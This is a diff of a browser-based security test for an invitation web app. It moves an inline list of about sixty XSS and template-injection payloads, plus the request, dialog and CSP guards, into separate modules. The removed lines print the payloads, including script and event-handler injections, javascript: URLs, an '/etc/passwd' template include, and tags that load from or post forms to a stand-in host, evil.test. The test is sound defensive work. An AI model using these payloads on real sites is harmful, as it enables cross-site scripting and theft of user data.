@@ -1,72 +1,9 @@
 // node pages.mjs URL: the pages of a running `invited dev` in Chromium. Opening a link changes nothing; a click on a mailed link joins,
 // and address and code accept by any other; what others wrote stays text; nothing is asked of other servers. With a key, `node pages.mjs URL KEY`: those of a server without mail.
 import assert from "node:assert/strict";
-import { chromium } from "playwright-core";
+import { guarded, launch } from "./page_browser.mjs";
+import { MARKUP } from "./page_markup.mjs";
 import { api, at, key, url } from "./page_server.mjs";
-
-// What markup could do harm; each is stored as a name, and shown by every page.
-const MARKUP = [
-  "<script>alert(1)</script>",
-  "<ScRiPt>alert(1)</sCrIpT>",
-  "<script src=http://evil.test/x.js></script>",
-  "</script><script>alert(1)</script>",
-  "</title><script>alert(1)</script>",
-  "</style><script>alert(1)</script>",
-  "</textarea><script>alert(1)</script>",
-  "</noscript><script>alert(1)</script>",
-  "--><script>alert(1)</script>",
-  "]]><script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<img src=http://evil.test/x.png>",
-  "<img/src='x'/onerror='alert(1)'>",
-  "<image href=x onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  "<svg/onload=alert(1)//",
-  "<svg><script>alert(1)</script></svg>",
-  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-  "<svg><a href='javascript:alert(1)'><text y=9>x</text></a>",
-  "<math href='javascript:alert(1)'>x</math>",
-  "<body onload=alert(1)>",
-  "<iframe src='javascript:alert(1)'></iframe>",
-  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-  "<iframe src=http://evil.test/></iframe>",
-  "<object data='javascript:alert(1)'></object>",
-  "<embed src='javascript:alert(1)'>",
-  "<video><source onerror=alert(1)></video>",
-  "<audio src=x onerror=alert(1)>",
-  "<details open ontoggle=alert(1)>x</details>",
-  "<input autofocus onfocus=alert(1)>",
-  "<select autofocus onfocus=alert(1)>",
-  "<button autofocus onfocus=alert(1)>x",
-  "<marquee onstart=alert(1)>x</marquee>",
-  "<a href='javascript:alert(1)'>x</a>",
-  "<a href=http://evil.test/>x</a>",
-  "<form action='javascript:alert(1)'><button>x",
-  "<form action=http://evil.test/><input name=code>",
-  "<base href=http://evil.test/>",
-  "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
-  "<link rel=stylesheet href=http://evil.test/x.css>",
-  "<style>@import 'http://evil.test/x.css';</style>",
-  "<style>*{background:url(http://evil.test/x)}</style>",
-  "<p style='background:url(http://evil.test/x)'>x",
-  "<template><script>alert(1)</script></template>",
-  "<b onmouseover=alert(1)>x</b>",
-  "\" onmouseover=\"alert(1)",
-  "' onfocus='alert(1)' autofocus='",
-  "\"><script>alert(1)</script>",
-  "'><img src=x onerror=alert(1)>",
-  "`-alert(1)-`",
-  "${alert(1)}",
-  "{{constructor.constructor('alert(1)')()}}",
-  "{% include '/etc/passwd' %}",
-  "{{ 7 * 7 }}",
-  "javascript:alert(1)",
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "&#60;script&#62;alert(1)&#60;/script&#62;",
-  "%3Cscript%3Ealert(1)%3C/script%3E",
-  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-  "http://evil.test/ is where you should go",
-];
 
 let checks = 0;
 function check(isSo, what) {
@@ -90,29 +27,8 @@ const given = async (invitation) => (await api("POST", `${at(invitation)}/link`)
 const state = async (invitation) =>
   JSON.stringify([await api("GET", at(invitation)), await api("GET", `/v1/organizations/${invitation.organizationId}/events`)]);
 
-const browser = await chromium.launch({
-  executablePath: "/usr/bin/chromium",
-  args: ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-gpu"],
-});
-const context = await browser.newContext({ viewport: { width: 360, height: 640 } });
-context.setDefaultTimeout(15_000);
-
-// What no page may ever cause.
-const wrong = [];
-await context.addInitScript(() => {
-  addEventListener("securitypolicyviolation", (event) => console.error(`CSP: ${event.violatedDirective} ${event.blockedURI}`));
-});
-context.on("request", (request) => {
-  if (!request.url().startsWith(`${url}/`)) wrong.push(`a request to ${request.url()}`);
-});
-context.on("dialog", (dialog) => {
-  wrong.push(`a dialog: ${dialog.message()}`);
-  dialog.dismiss();
-});
-context.on("console", (message) => {
-  if (/CSP|Content Security Policy/.test(message.text())) wrong.push(message.text());
-});
-context.on("weberror", (error) => wrong.push(`an error: ${error.error()}`));
+const browser = await launch();
+const { context, wrong } = await guarded(browser, url, { viewport: { width: 360, height: 640 } });
 
 function nothingWrong(where) {
   assert.deepEqual(wrong, [], where);
